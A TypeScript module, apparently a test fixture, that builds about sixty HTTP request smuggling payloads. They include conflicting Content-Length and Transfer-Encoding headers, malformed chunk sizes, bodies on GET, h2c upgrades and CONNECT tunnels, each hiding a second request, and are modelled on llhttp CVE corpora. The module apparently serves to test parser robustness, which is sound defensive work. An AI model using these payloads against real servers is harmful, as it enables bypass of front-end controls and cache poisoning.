/** Bytes in which one reading of HTTP sees one request, and another sees `hidden` behind it. */
export type Smuggling = Readonly<{ name: string; bytes: (hidden: string) => string }>;

const start = 'POST /trpc/nothing HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n';
const lengthOf = (hidden: string) => `Content-Length: ${hidden.length}`;
const chunked = 'Transfer-Encoding: chunked';
const lastChunk = '0\r\n\r\n';

/** A body that ends at once when read as chunks, and goes on over `hidden` when read by length. */
function chunksOrLength(name: string, ...lines: readonly string[]): Smuggling {
  return {
    name,
    bytes: (hidden) => `${start}${[lengthOf(lastChunk + hidden), ...lines].join('\r\n')}\r\n\r\n${lastChunk}${hidden}`,
  };
}

/** Lines under which nobody can say where the body ends. `hidden` stands where some would begin the next request. */
function unclear(name: string, lines: string, body = ''): Smuggling {
  return {
    name,
    bytes: (hidden) => `${start}${lines.replace('<length>', String(hidden.length))}\r\n\r\n${body}${hidden}`,
  };
}

function brokenChunks(name: string, body: (hidden: string) => string): Smuggling {
  return { name, bytes: (hidden) => `${start}${chunked}\r\n\r\n${body(hidden)}` };
}

/** A method that needs no body, with `hidden` as its body. */
function bodyOf(method: string, framing: 'length' | 'chunks'): Smuggling {
  const size = (hidden: string) => hidden.length.toString(16);
  return {
    name: `a ${method} with a body, by ${framing}`,
    bytes: (hidden) =>
      `${method} /trpc/nothing HTTP/1.1\r\nHost: a\r\n${
        framing === 'length'
          ? `${lengthOf(hidden)}\r\n\r\n${hidden}`
          : `${chunked}\r\n\r\n${size(hidden)}\r\n${hidden}\r\n${lastChunk}`
      }`,
  };
}

/** After the corpora of llhttp's CVEs (2022-32213, -32214, -32215, -35256, 2023-30589) and of HTTP Garden. */
export const smugglings: readonly Smuggling[] = [
  chunksOrLength('a length before chunks', chunked),
  {
    name: 'chunks before a length',
    bytes: (hidden) => `${start}${chunked}\r\n${lengthOf(lastChunk + hidden)}\r\n\r\n${lastChunk}${hidden}`,
  },
  chunksOrLength('chunks in capitals', 'TRANSFER-ENCODING: CHUNKED'),
  chunksOrLength('chunks twice', chunked, chunked),
  chunksOrLength('chunks, then identity', 'Transfer-Encoding: chunked, identity'),
  chunksOrLength('chunks, then identity, on lines of their own', chunked, 'Transfer-Encoding: identity'),
  chunksOrLength('identity, then chunks', 'Transfer-Encoding: identity, chunked'),
  chunksOrLength('an unknown coding', 'Transfer-Encoding: xchunked'),
  chunksOrLength('a quoted coding', 'Transfer-Encoding: "chunked"'),
  chunksOrLength('a coding with a parameter', 'Transfer-Encoding: chunked;q=0.5'),
  chunksOrLength('a coding after a comma', 'Transfer-Encoding: ,chunked'),
  chunksOrLength('a coding behind a tab', 'Transfer-Encoding:\tchunked'),
  chunksOrLength('a coding behind a vertical tab', 'Transfer-Encoding:\u000bchunked'),
  chunksOrLength('a coding before a zero byte', 'Transfer-Encoding: chunked\u0000'),
  chunksOrLength('a coding in a high byte', 'Transfer-Encoding: chunked\u00ff'),
  chunksOrLength('a space before the colon', 'Transfer-Encoding : chunked'),
  chunksOrLength('a tab before the colon', 'Transfer-Encoding\t: chunked'),
  chunksOrLength('a space before the name', ' Transfer-Encoding: chunked'),
  chunksOrLength('a folded value', 'Transfer-Encoding:\r\n chunked'),
  chunksOrLength('a folded header before it', 'X-A: b\r\n Transfer-Encoding: chunked'),
  chunksOrLength('an underscore in the name', 'Transfer_Encoding: chunked'),
  chunksOrLength('a bare carriage return before it', 'X-A: b\rTransfer-Encoding: chunked'),
  chunksOrLength('a bare line feed before it', 'X-A: b\nTransfer-Encoding: chunked'),
  chunksOrLength('a header without a name before it', ': b', chunked),
  chunksOrLength('the length named as a header of this hop', 'Connection: Content-Length', chunked),
  unclear('two lengths, the first nothing', 'Content-Length: 0\r\nContent-Length: <length>'),
  unclear('two lengths, the last nothing', 'Content-Length: <length>\r\nContent-Length: 0'),
  unclear('a list of lengths', 'Content-Length: 0, <length>'),
  unclear('a length with a sign', 'Content-Length: +0'),
  unclear('a length below nothing', 'Content-Length: -1'),
  unclear('a hexadecimal length', 'Content-Length: 0x0'),
  unclear('a length of two words', 'Content-Length: 0 <length>'),
  unclear('a length with an exponent', 'Content-Length: 0e1'),
  unclear('a length beyond all numbers', 'Content-Length: 18446744073709551616'),
  unclear('an empty length', 'Content-Length: '),
  unclear('a folded length', 'Content-Length:\r\n 0'),
  unclear('a space before the colon of a length', 'Content-Length : 0'),
  unclear('a head that ends in bare line feeds', `X-A: b\n\n`),
  unclear('a head that ends in bare carriage returns', `X-A: b\r\r`),
  brokenChunks('a hexadecimal mark on a chunk', (hidden) => `0x0\r\n\r\n${hidden}`),
  brokenChunks('a sign on a chunk', (hidden) => `+0\r\n\r\n${hidden}`),
  brokenChunks('a chunk below nothing', (hidden) => `-0\r\n\r\n${hidden}`),
  brokenChunks('a space before the size of a chunk', (hidden) => ` 0\r\n\r\n${hidden}`),
  brokenChunks('an underscore in the size of a chunk', (hidden) => `0_0\r\n\r\n${hidden}`),
  brokenChunks('a chunk beyond all numbers', (hidden) => `10000000000000000\r\n${hidden}`),
  brokenChunks('a bare line feed after the size of a chunk', (hidden) => `0\n\n${hidden}`),
  brokenChunks('a bare line feed in a chunk extension', (hidden) => `0;a=b\n\r\n${hidden}`),
  brokenChunks('a bare carriage return in a chunk extension', (hidden) => `0;a\rb\r\n\r\n${hidden}`),
  brokenChunks('a chunk longer than its size', (hidden) => `2\r\n{}X\r\n${lastChunk}${hidden}`),
  brokenChunks('a chunk that ends in a bare line feed', (hidden) => `2\r\n{}\n${lastChunk}${hidden}`),
  brokenChunks('an unfinished chunk', (hidden) => `ffff\r\n${hidden}`),
  brokenChunks(
    'a chunk extension as long as a head',
    (hidden) => `2;${'x'.repeat(20_000)}\r\n{}\r\n${lastChunk}${hidden}`,
  ),
  brokenChunks('a trailer that is a request', (hidden) => `0\r\n${hidden}`),
  bodyOf('GET', 'length'),
  bodyOf('GET', 'chunks'),
  bodyOf('HEAD', 'length'),
  bodyOf('DELETE', 'chunks'),
  bodyOf('OPTIONS', 'length'),
  {
    name: 'chunks in HTTP/1.0',
    bytes: (hidden) => `${start.replace('1.1', '1.0')}${chunked}\r\n\r\n${lastChunk}${hidden}`,
  },
  { name: 'a version that there is none of', bytes: (hidden) => `${start.replace('1.1', '1.9')}\r\n${hidden}` },
  { name: 'no version at all', bytes: (hidden) => `GET /trpc/nothing\r\n\r\n${hidden}` },
  { name: 'a line feed in the path', bytes: (hidden) => `GET /trpc/nothing HTTP/1.1\nHost: a\n\n${hidden}` },
  {
    name: 'a last word: Connection: close',
    bytes: (hidden) => `${start}Connection: close\r\nContent-Length: 2\r\n\r\n{}${hidden}`,
  },
  {
    name: 'a change to HTTP/2',
    bytes: (hidden) =>
      `GET /trpc/nothing HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  { name: 'a tunnel', bytes: (hidden) => `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n${hidden}` },
  {
    name: 'a body that waits to be asked for',
    bytes: (hidden) => `${start}Expect: 100-continue\r\n${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
];
